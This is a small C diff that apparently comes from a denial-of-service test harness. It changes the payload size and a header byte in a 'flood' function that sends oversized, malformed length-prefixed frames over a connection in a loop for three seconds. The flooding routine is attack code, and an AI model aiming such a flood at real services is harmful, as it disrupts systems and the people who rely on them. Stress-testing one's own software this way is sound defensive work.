@@ -2,7 +2,7 @@
 #define PLACE IN_RUN
 #include "attack.h"
 
-enum { REASON = 1 << 20 };
+enum { REASON = 60 << 10 };
 
 static void *flood(void *argument) {
     int link = *(int *)argument;
@@ -12,7 +12,7 @@ static void *flood(void *argument) {
     memcpy(frame, &length, 4);
     frame[4] = 5;
     frame[5] = 0x7f, frame[6] = frame[7] = frame[8] = 0xff;
-    frame[9] = 0, frame[10] = REASON >> 16, frame[11] = 0, frame[12] = 0;
+    frame[9] = 0, frame[10] = 0, frame[11] = REASON >> 8, frame[12] = 0;
     memset(frame + 13, 'x', REASON);
     for (double end = now() + 3; now() < end;) {
         for (size_t sent = 0; sent < REASON + 13;) {
